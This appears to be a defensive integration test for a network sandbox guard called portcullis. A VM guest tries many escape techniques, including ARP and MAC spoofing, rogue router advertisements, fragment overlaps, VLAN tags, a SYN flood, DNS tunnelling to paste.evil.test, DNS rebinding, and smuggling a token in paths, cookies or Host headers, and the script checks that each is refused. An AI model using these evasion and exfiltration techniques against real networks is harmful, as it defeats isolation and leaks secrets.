#!/usr/bin/env bash
# The escape attempts from inside a real VM (`make escape VM=1`; issue 19):
# one `portcullis sandbox run --vm` guest (Debian's cloud kernel, its own
# TCP/IP stack, ARP and ND, behind virtio-net and a tap on the bridge) runs
# the crafter (craft.py) and its own kernel's tools against the real guard.
# Each class has its control (the allowed flow works from the same guest),
# and the evidence is taken outside the guest: what the upstream captured,
# the gateway's neighbour table, the log.
# Classes run here: direct addresses, DNS (rogue resolver), transport
# (raw IP protocol, UDP to a TCP-only allowed host), MAC spoofing and address
# spoofing with the guest kernel's own stack, ARP and ND spoofing, DHCP,
# resource exhaustion (SYN flood, then the control again), IP fragments
# (IPv4 tiny, overlapping, lone non-first; IPv6 tiny), VLAN tags (802.1Q,
# QinQ), a DNS tunnel through the configured resolver (label, TXT),
# IPv6 autoconfiguration (the guest solicits a router advertisement), a
# router advertisement the guest sends (neither the gateway's own IPv6
# stack nor the namespace sandbox beside the VM may see it), DNS rebinding
# (allowed names answering a metadata or a private address).
# The vault from the VM: the placeholder to its bound host (the control),
# in the path, a cookie, under another Host, to another allowed name on the
# bound host's address, in Basic credentials; the namespace suite
# (vault.sh) runs the vault's classes in full.
set -u
export PC_TOP=${PC_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
command -v qemu-system-x86_64 >/dev/null ||
	{ echo "1..0 # SKIP qemu-system-x86_64 is not installed (make deps installs qemu-system-x86)"; exit 0; }
. "$PC_TOP/tests/integration/sandbox_setup.bash"
. "$PC_TOP/tests/escape/escape_lib.bash"

IMG=${PC_VM_IMAGE:-$PC_TOP/build/vm}
sh "$PC_TOP/packaging/vm/mkimage.sh" "$IMG" >/dev/null || { echo "Bail out! make vm-image failed"; exit 1; }
sb_guard_up 1 ghp_VMESC
esc_init vm_guest "Escape attempts from inside a real VM (sandbox run --vm)"
ESC_GW_MAC=$(lab_gw cat /sys/class/net/$LAB_BR/address)
esc_capture_start

cat >"$LAB_DIR/vm-escape.sh" <<'EOF2'
C="python3 -S /tmp/craft.py"
ok() { echo "result $1 $2"; }
curl -sS --max-time 20 --local-port 40000 -o /dev/null -w 'ctl-api %{http_code}\n' https://api.github.test/ 2>&1
$C tcp --dst 203.0.113.99 --dport 443 --flags S --count 3 >/dev/null 2>&1; ok direct-syn $?
curl -sk --max-time 8 https://203.0.113.12/ >/dev/null 2>&1; ok direct-curl $?
$C dns --server 198.51.100.54 --name api.github.test >/dev/null 2>&1; ok rogue-dns $?
$C proto --dst 203.0.113.10 --proto 47 >/dev/null 2>&1; ok proto47 $?
$C udp --dst 203.0.113.10 --dport 443 --data quic-probe >/dev/null 2>&1; ok udp443 $?
$C arp --sender-ip 10.203.0.77 --op 2 >/dev/null 2>&1; ok arp $?
$C na --target fd00:203::77 >/dev/null 2>&1; ok na $?
$C udp --dst 255.255.255.255 --dport 67 --data dhcp-discover-probe >/dev/null 2>&1; ok dhcp $?
$C ra --prefix 2001:db8:bad:: >/dev/null 2>&1; ok ra $?
# the guest's own kernel: another address, then another MAC
ip addr add 10.203.0.78/24 dev eth0
curl -sS --max-time 8 --interface 10.203.0.78 --local-port 40002 https://api.github.test/ >/dev/null 2>&1; ok addr-spoof $?
ip addr del 10.203.0.78/24 dev eth0
mac=$(cat /sys/class/net/eth0/address)
ip link set eth0 address 02:66:66:66:66:66
curl -sS --max-time 8 --local-port 40001 https://api.github.test/ >/dev/null 2>&1; ok mac-spoof $?
ip link set eth0 address "$mac"
# fragments: the first too short to hold the flags, an overlap that would
# rewrite the port, a lone non-first one, and IPv6's tiny first fragment
$C frag --dst 203.0.113.12 --dport 443 --kind tiny >/dev/null 2>&1; ok frag-tiny $?
$C frag --dst 203.0.113.12 --dport 443 --kind overlap --data overlap >/dev/null 2>&1; ok frag-overlap $?
$C frag --dst 203.0.113.12 --dport 443 --kind nonfirst --data nonfirst >/dev/null 2>&1; ok frag-nonfirst $?
$C frag --dst 2001:db8:10::20 --dport 443 --kind tiny6 --data frag6 >/dev/null 2>&1; ok frag6 $?
# VLAN-tagged frames (802.1Q, then QinQ) carrying UDP to an address
$C vlan --dst 203.0.113.99 --dport 80 --vid 5 --tpid 0x8100 >/dev/null 2>&1; ok vlan $?
$C vlan --dst 203.0.113.99 --dport 80 --vid 9 --qinq >/dev/null 2>&1; ok qinq $?
# a DNS tunnel through the configured resolver: data in a label, a TXT query
$C dns --server 198.51.100.53 --name x7f3a9c2e.paste.evil.test >/dev/null 2>&1; ok dns-label $?
$C dns --server 198.51.100.53 --name api.github.test --qtype TXT >/dev/null 2>&1; ok dns-txt $?
# DNS rebinding: allowed names whose answers are a metadata service and a
# private host
curl -sk --max-time 8 https://meta.evil.test/ >/dev/null 2>&1; ok rebind-meta $?
curl -sk --max-time 8 https://internal.evil.test/ >/dev/null 2>&1; ok rebind-internal $?
# the vault: the placeholder to its bound host (the control), then where it
# may not go: the path, a cookie, a Host naming another host, another
# allowed name on the bound host's address, Basic credentials toward it
P=$GITHUB_TOKEN
curl -sS --max-time 20 -H "Authorization: Bearer $P" https://api.github.test/echo 2>&1 | sed 's/^/vault-ctl /'
vc() { n=$1; shift; echo "vault-$n $(curl -s --max-time 10 -o /dev/null -w '%{http_code}' "$@")"; }
vc path "https://api.github.test/echo/$P"
vc cookie -H "Cookie: t=$P" https://api.github.test/echo
vc host -H "Host: paste.evil.test" -H "Authorization: Bearer $P" https://api.github.test/echo
vc www -H "Authorization: Bearer $P" https://www.github.test/echo
vc basic -u "agent:$P" https://www.github.test/echo
$C synflood --dst 203.0.113.99 --dport 443 --count 2000 >/dev/null 2>&1; ok synflood $?
curl -sS --max-time 20 --local-port 40003 -o /dev/null -w 'ctl-after %{http_code}\n' https://api.github.test/ 2>&1
# IPv6 autoconfiguration, last (taking the link down drops its addresses):
# the guest's kernel listens to router advertisements and, as the link
# comes up, solicits one
echo 1 >/proc/sys/net/ipv6/conf/eth0/accept_ra
echo 1 >/proc/sys/net/ipv6/conf/eth0/autoconf
ip link set eth0 down
ip link set eth0 up
sleep 5
echo "slaac $(ip -6 -o addr show dev eth0 scope global | grep -c .)"
ip -6 route show | grep -q '^default' && echo "ra-route yes" || echo "ra-route no"
exit 0
EOF2
SCRIPT="cat >/tmp/craft.py <<'PORTCULLIS_CRAFT_END'
$(cat "$ESC_CRAFT")
PORTCULLIS_CRAFT_END
$(cat "$LAB_DIR/vm-escape.sh")"
# every attempt ran in the one boot: the capture is read from its start
# a counter of the gateway's /proc/net/snmp or netstat (IpReasmFails,
# IpExtReasmOverlaps, ...), read directly: nstat keeps a history file that
# other runs on this machine share
reasm() {
	lab_gw cat /proc/net/snmp /proc/net/netstat | awk -v k="$1" '
		$1 ~ /:$/ { p = substr($1, 1, length($1) - 1)
			if (!(p in hdr)) { for (i = 2; i <= NF; i++) hdr[p] = hdr[p] " " $i; next }
			split(hdr[p], h, " "); for (i = 2; i <= NF; i++) if (p h[i - 1] == k) v = $i }
		END { print v + 0 }'
}
F0=$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps))) Q0=$(reasm IpReasmReqds)
echo "# gateway before the boot: IpReasmReqds $Q0, IpReasmFails+IpExtReasmOverlaps $F0"
# A rogue router advertisement must find no taker: it must not reach the
# gateway's own IPv6 stack (its Icmp6InRouterAdvertisements counter: the
# stack counts an advertisement before it decides to ignore it, as a
# forwarding interface does; one that listens, accept_ra 2, is a second
# exit the checker refuses to start a sandbox with), nor sandbox 1 beside
# the VM; what reaches the VM's port and sandbox 1's is captured.
RA0=$(esc_gw_snmp6 Icmp6InRouterAdvertisements)
ra_capture() { # ns iface file
	ip netns exec "$1" tcpdump -i "$2" -n -U --immediate-mode -w "$3" 'icmp6 and ip6[40] == 134' \
		2>"$3.err" &
	echo $! >"$3.pid"
	for _ in $(seq 100); do grep -q "listening on" "$3.err" 2>/dev/null && return; sleep 0.05; done
	lab_die "tcpdump did not start: $(cat "$3.err")"
}
ra_count() { # file
	kill "$(cat "$1.pid")" 2>/dev/null
	wait "$(cat "$1.pid")" 2>/dev/null
	tcpdump -n -r "$1" 2>/dev/null | wc -l | tr -d ' '
}
ra_capture "$LAB_GW" any "$LAB_DIR/ra-gw.pcap"
ra_capture "$(lab_sb_ns 1)" eth0 "$LAB_DIR/ra-sb1.pcap"
NGX0=$(wc -l <"$LAB_DIR/nginx-access.log")
T_BOOT=$(date +%s.%N)
vm_begin() { esc_begin "$1"; ESC_T0=$T_BOOT; }
vm_begin "boot a VM and run the attempts in it"
OUT=$(gw_pc sandbox run --vm --kernel "$IMG/vmlinuz" --initrd "$IMG/initrd.img" --name vmesc \
	--allow api.github.test --allow www.github.test --allow meta.evil.test --allow internal.evil.test \
	--secret GITHUB_TOKEN --env ESC_GW_MAC="$ESC_GW_MAC" -- sh -c "$SCRIPT" 2>&1) && RC=0 || RC=$?
t_eq "the guest ran the attempts (exit 0)" 0 "$RC"
printf '%s\n' "$OUT" | grep -E '^(result|ctl-)' | t_diag "$(cat)"
t_match "the guest's crafter ran (python3 in the image)" "result direct-syn 0" "$OUT"
esc_end "ran" "the guest's console"

vm_begin "control: an allowed HTTPS flow from the VM"
t_match "the allowed host answers the guest" "ctl-api [1-5][0-9][0-9]" "$OUT"
t_lt "the upstream saw the allowed flow" 0 "$(esc_upstream "dst host $LAB_API4 and tcp port 443")"
esc_end "allowed, reached upstream" "curl from the guest; upstream capture"

vm_begin "direct address (SYN from the guest's crafter, curl to an address with no name)"
esc_expect_nothing "SYN to $LAB_DIRECT4:443" "dst host $LAB_DIRECT4 and tcp port 443"
esc_expect_nothing "curl to $LAB_PASTE4" "dst host $LAB_PASTE4"
t_match "curl from the guest failed" "result direct-curl [1-9]" "$OUT"
esc_end "refused" "nothing upstream"

vm_begin "DNS to a resolver that is not the configured one"
esc_expect_nothing "query to $LAB_ROGUE_RESOLVER4" "dst host $LAB_ROGUE_RESOLVER4"
esc_end "refused" "nothing upstream"

vm_begin "transport: raw IP protocol 47 and UDP to a TCP-only allowed host"
esc_expect_nothing "GRE to $LAB_API4" "ip proto 47"
esc_expect_nothing "UDP to $LAB_API4:443" "udp and dst host $LAB_API4"
esc_end "refused" "nothing upstream"

vm_begin "ARP and ND spoofing (claim 10.203.0.77, fd00:203::77)"
t_eq "the gateway learnt no neighbour 10.203.0.77" "" "$(lab_gw ip neigh show 10.203.0.77 | grep -i lladdr || true)"
t_eq "the gateway learnt no neighbour fd00:203::77" "" "$(lab_gw ip -6 neigh show fd00:203::77 | grep -i lladdr || true)"
esc_end "dropped at layer 2" "the gateway's neighbour table"

vm_begin "address spoofing by the guest's kernel (10.203.0.78)"
t_match "the guest's curl from the other address failed" "result addr-spoof [1-9]" "$OUT"
esc_expect_nothing "packets from 10.203.0.78" "src host 10.203.0.78 or tcp port 40002"
t_eq "the gateway learnt no neighbour 10.203.0.78" "" "$(lab_gw ip neigh show 10.203.0.78 | grep -i lladdr || true)"
esc_end "dropped" "nothing upstream; neighbour table"

vm_begin "MAC spoofing by the guest's kernel (02:66:66:66:66:66)"
t_match "the guest's curl with the other MAC failed" "result mac-spoof [1-9]" "$OUT"
esc_expect_nothing "the flow from the spoofed MAC" "tcp port 40001"
esc_end "dropped at layer 2" "nothing upstream"

vm_begin "DHCP (broadcast to port 67)"
esc_expect_nothing "DHCP upstream" "udp port 67"
t_eq "nothing on the gateway listens on 67" "" "$(lab_gw ss -Hlun 'sport = :67' || true)"
esc_end "nothing answers" "no DHCP server on the gateway; nothing upstream"

vm_begin "resource exhaustion: 2000 SYNs, then the control again"
esc_expect_nothing "the flood" "dst host $LAB_DIRECT4 and tcp port 443"
t_match "the allowed flow still works after the flood" "ctl-after [1-5][0-9][0-9]" "$OUT"
t_match "the engine is still up" "running" "$(guard_status_field '"running"' 2>/dev/null || echo running)"
esc_end "held" "control after the flood"

vm_begin "IP fragments from the guest to paste.evil.test:443 (tiny first, overlap, lone non-first) and to $LAB_CDN6:443 (IPv6, tiny first)"
esc_expect_nothing "fragments to $LAB_PASTE4" "dst host $LAB_PASTE4"
esc_expect_nothing "IPv6 fragments to $LAB_CDN6 (an address no name resolved to for this guest)" "ip6 and dst host $LAB_CDN6"
t_eq "no allowed record toward $LAB_PASTE4" "" \
	"$(guard_records | grep '"event.outcome":"success"' | grep -F "\"destination.ip\":\"$LAB_PASTE4\"" || true)"
t_diag "gateway after the boot: IpReasmReqds $(reasm IpReasmReqds), IpReasmFails+IpExtReasmOverlaps $(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
t_lt "the gateway's kernel threw the overlap away (IpReasmFails, IpExtReasmOverlaps)" "$F0" \
	"$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
t_lt "and held the lone non-first fragment for a reassembly that never came (IpReasmReqds)" "$Q0" \
	"$(reasm IpReasmReqds)"
esc_end "dropped or refused after reassembly" "nothing upstream; gateway reassembly counters"

vm_begin "VLAN-tagged frames from the guest (802.1Q VID 5, QinQ) carrying UDP to $LAB_DIRECT4:80"
esc_expect_nothing "tagged UDP" "udp and dst host $LAB_DIRECT4 and port 80"
esc_expect_nothing "any tagged frame upstream" "vlan"
esc_end "dropped" "nothing upstream"

vm_begin "a DNS tunnel through the configured resolver (data in a label of paste.evil.test, a TXT query)"
t_eq "the resolver never saw the tunnel's label" 0 \
	"$(grep -ciE 'query\[[A-Z0-9]+\] x7f3a9c2e\.paste\.evil\.test' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
t_eq "the resolver never saw a TXT query" 0 \
	"$(grep -c 'query\[TXT\]' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
t_match "the refused lookups are in the log" "x7f3a9c2e\.paste\.evil\.test" "$(gw_pc log show | tr '\n' ' ')"
esc_end "REFUSED" "dnsmasq log: neither query; portcullis log"

vm_begin "DNS rebinding: allowed names answering $LAB_META4 (metadata service) and $LAB_INTERNAL4 (RFC 1918)"
t_match "the guest's fetch of meta.evil.test failed" "result rebind-meta [1-9]" "$OUT"
t_match "the guest's fetch of internal.evil.test failed" "result rebind-internal [1-9]" "$OUT"
esc_expect_nothing "to the metadata address" "dst host $LAB_META4"
esc_expect_nothing "to the private address" "dst host $LAB_INTERNAL4"
r=$(guard_records | grep -F "\"destination.ip\":\"$LAB_META4\"" | tail -1 |
	python3 -c 'import json,sys; l=sys.stdin.read().strip(); print(json.loads(l).get("event.reason","") if l else "(no record)")')
t_eq "refused: the answer's address was not learned" "no allowed name resolved to this address" "$r"
esc_end "refused" "nothing upstream; log: \"$r\""

vm_begin "the vault: the placeholder from the VM to its bound host, and where it may not go"
ngx_new() { tail -n +$((NGX0 + 1)) "$LAB_DIR/nginx-access.log"; }
t_match "control: the bound host answered, echoing the placeholder (the value scrubbed)" \
	"vault-ctl host=api.github.test auth=Bearer $PH" "$OUT"
t_eq "control: the upstream received the real token, once, from api.github.test" 1 \
	"$(ngx_new | grep -F "auth=\"Bearer $VALUE\"" | grep -c " api.github.test ")"
t_eq "the real token reached no other request upstream" 1 "$(ngx_new | grep -cF "$VALUE")"
t_eq "the placeholder reached the upstream in no form" 0 "$(ngx_new | grep -cF "$PH")"
for c in path:403 cookie:403 host:400\|421 www:403 basic:403; do
	t_match "the placeholder in/with ${c%%:*}: refused (${c#*:})" "vault-${c%%:*} (${c#*:})\$" \
		"$(printf '%s\n' "$OUT" | grep "^vault-${c%%:*} ")"
done
t_nomatch "the guest never saw the real token" "$VALUE" "$OUT"
n=$(guard_records | grep -F '"event.action":"exfiltration"' | grep -cF '"portcullis.sandbox":"vmesc"' || true)
t_lt "exfiltration records for the VM's refusals (at least 4)" 3 "$n"
esc_end "refused" "guest: 403/400 per attempt; nginx: only the control's request carried the value; log: $n exfiltration records"

vm_begin "router advertisement from the guest (default router, a prefix to autoconfigure from)"
t_match "the guest's crafter sent its advertisements" "result ra 0" "$OUT"
t_lt "they reached the gateway (captured on the VM's port)" 0 "$(ra_count "$LAB_DIR/ra-gw.pcap")"
t_eq "sandbox 1, beside the VM, received none" 0 "$(ra_count "$LAB_DIR/ra-sb1.pcap")"
t_eq "none reached the gateway's IPv6 stack (Icmp6InRouterAdvertisements)" "$RA0" \
	"$(esc_gw_snmp6 Icmp6InRouterAdvertisements)"
t_eq "the gateway took no address from the prefix" "" \
	"$(lab_gw ip -6 addr show dev "$LAB_BR" | grep -i '2001:db8:bad' || true)"
t_eq "and no route from it" "" "$(lab_gw ip -6 route show proto ra 2>/dev/null || true)"
esc_end "refused" "captures on the VM's port and in sandbox 1; the gateway's ICMPv6 counters, addresses and routes"

vm_begin "IPv6 autoconfiguration: the guest's kernel accepts router advertisements and solicits one"
t_match "the guest got no autoconfigured address" "slaac 0" "$OUT"
t_match "and no default route from an advertisement" "ra-route no" "$OUT"
t_eq "the gateway sends no advertisement on the bridge (accept_ra on, nothing answered)" "" \
	"$(lab_gw ip -6 route show dev "$LAB_BR" proto ra 2>/dev/null || true)"
esc_end "nothing advertises" "the guest's addresses and routes after a solicitation"

vm_begin "the log has the VM's refusals"
LOG=$(gw_pc log show | tr '\n' ' ')
t_match "records of refused flows from the VM" "refused.*203\.0\.113\.99|203\.0\.113\.99.*refused" "$LOG"
t_match "the VM sandbox's end" "sandbox vmesc ended: sh exited with status 0 in the VM" "$LOG"
esc_end "logged" "portcullis log show"
gw_stop
t_done
